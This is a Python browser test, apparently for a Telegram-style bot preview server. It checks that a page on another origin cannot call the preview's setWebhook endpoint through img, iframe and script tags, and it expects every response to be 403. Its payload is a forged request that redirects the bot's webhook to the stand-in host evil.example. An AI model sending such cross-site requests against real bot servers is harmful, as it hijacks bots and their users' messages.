"""A page on another website, in a real browser: it reaches nothing of the preview."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
from playwright.async_api import Browser, Response

from bot.preview.server import PreviewServer
from bot.preview.world import World

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]


@asynccontextmanager
async def elsewhere(body: str) -> AsyncIterator[str]:
    """Serve a page under another name than the preview's; give its address."""
    page = f"<!doctype html><title>Elders</title>{body}".encode()
    head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(page)}\r\n"

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(f"{head}Connection: close\r\n\r\n".encode() + page)
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    async with server:
        yield f"http://localhost:{server.sockets[0].getsockname()[1]}/"


async def test_what_another_page_asks_of_the_preview_is_refused(
    chromium: Browser, preview: PreviewServer, world: World
) -> None:
    hook = f"{preview.url}/bot{world.bot.token}/setWebhook?url=https://evil.example/"
    body = f'<img src="{hook}"><iframe src="{preview.url}/"></iframe><script src="{hook}"></script>'
    statuses: list[int] = []

    def note(answer: Response) -> None:
        if answer.url.startswith(preview.url):
            statuses.append(answer.status)

    context = await chromium.new_context()
    try:
        page = await context.new_page()
        page.on("response", note)
        async with elsewhere(body) as address:
            await page.goto(address, wait_until="load")
    finally:
        await context.close()

    assert statuses
    assert set(statuses) == {403}
    assert world.webhooks.hook is None
    assert not world.calls
